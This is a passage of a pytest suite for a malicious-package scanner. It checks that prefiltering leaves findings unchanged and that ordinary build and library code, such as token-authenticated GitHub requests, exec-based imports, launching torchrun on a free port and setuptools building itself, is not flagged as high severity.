    TECHNIQUES + MORE_TECHNIQUES + CAPABILITIES + WINDOWS_AND_CLONES + LOOKUPS_AND_HANDOFFS
    + HIDDEN_REACH + UNREAD_CODE + ORDINARY + IMPORT_TIME
)


@pytest.mark.parametrize("technique", _EVERY, ids=lambda t: t.name)
def test_prefilter_hides_nothing_at_import_time(technique: Technique, tmp_path: Path) -> None:
    """Each technique as package code nobody imports at install: the prefilter, derived from
    the rule records, must not change the findings."""
    files = {"setup.py": "from setuptools import setup\nsetup(name='demo', version='1.0')\n"}
    files["demo/__init__.py"] = technique.body
    files.update({f"demo/{k}": v for k, v in technique.files.items() if k.endswith(".py")})
    sdist = make_sdist(tmp_path, "demo", "1.0", files)
    filtered = scan_path(sdist, check=InstallHookCheck(prefilter=True))
    complete = scan_path(sdist, check=InstallHookCheck(prefilter=False))
    assert sorted(map(repr, filtered)) == sorted(map(repr, complete))


BUILDS_THAT_MAY_WARN = (
    Technique(
        "github-token-in-an-authorization-header",
        "import os, urllib.request\n"
        "def read_url(url, token=None):\n"
        "    headers = {'User-Agent': 'demo'}\n"
        "    if token:\n        headers['authorization'] = 'Bearer ' + token\n"
        "    return urllib.request.urlopen(urllib.request.Request(url, headers=headers)).read()\n"
        "read_url('https://api.github.com/repos/demo/demo/releases',\n"
        "         token=os.environ.get('GITHUB_API_TOKEN'))\n",
    ),
    Technique(
        "tool-found-on-path-and-msvc-environment",
        "import os, subprocess, sysconfig\nfrom shutil import which\n"
        "tool = which('pgen', path=os.pathsep.join([os.environ['PATH'],\n"
        "             os.path.join(sysconfig.get_path('include'), '..', 'Parser')]))\n"
        "if tool:\n    subprocess.check_call([tool, 'demo/Grammar'])\n"
        "env = subprocess.check_output('cmd.exe /d /u /s /c \"vcvarsall.bat x64 >nul && set\"')\n",
    ),
)


@pytest.mark.parametrize("technique", BUILDS_THAT_MAY_WARN, ids=lambda t: t.name)
def test_unusual_but_ordinary_builds_are_not_blocked(technique: Technique, tmp_path: Path) -> None:
    findings = _scan(technique, tmp_path)
    assert all(f.severity < Severity.HIGH for f in findings), findings


LIBRARY_CODE = (
    Technique(
        "imports-from-a-reversed-list-of-modules",
        "",
        files={
            "demo/__init__.py": "def load(namespaces=('math', 'cmath'), names=('pi',)):\n"
            "    scope = {}\n"
            "    for module in namespaces[::-1]:\n"
            "        for name in names:\n"
            "            exec('from %s import %s' % (module, name), {}, scope)\n"
            "    return scope\n",
        },
    ),
    Technique(
        "free-port-from-a-socket-given-to-a-launcher",
        "",
        files={
            "demo/__init__.py": "import socket, subprocess\n"
            "def free_port():\n"
            "    with socket.socket() as s:\n"
            "        s.bind(('', 0))\n        return s.getsockname()[1]\n"
            "def launch(script):\n"
            "    subprocess.run(f'torchrun --master_port {free_port()} {script}'.split())\n",
        },
    ),
    Technique(
        "server-checks-its-own-name",
        "",
        files={
            "demo/__init__.py": "import socket\n"
            "def url(port):\n"
            "    host = socket.getfqdn()\n"
            "    try:\n        socket.create_connection((host, port), timeout=1)\n"
            "    except OSError:\n        host = 'localhost'\n"
            "    return f'http://{host}:{port}/'\n",
        },
    ),
)


@pytest.mark.parametrize("technique", LIBRARY_CODE, ids=lambda t: t.name)
def test_library_code_is_not_blocked(technique: Technique, tmp_path: Path) -> None:
    findings = _scan(technique, tmp_path)
    assert all(f.severity < Severity.HIGH for f in findings), findings


def test_setuptools_building_itself_is_not_a_shadow(tmp_path: Path) -> None:
    """setuptools' sdist is its own backend (backend-path ["."]) and ships pkg_resources and
    _distutils_hack beside it: its own files, not copies shadowing the real ones."""
    files: dict[str, str | bytes] = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "setuptools.build_meta"\n'
        'backend-path = ["."]\n',
        "setup.py": "import setuptools\nsetuptools.setup()\n",
        "setuptools/__init__.py": "import _distutils_hack\nimport pkg_resources\n",
        "setuptools/build_meta.py": "from setuptools import setup\n",
        "_distutils_hack/__init__.py": "X = 1\n",
        "pkg_resources/__init__.py": "Y = 1\n",
    }
    findings = scan_path(make_sdist(tmp_path, "setuptools", "99.0", files))
    assert all(f.severity < Severity.HIGH for f in findings), findings
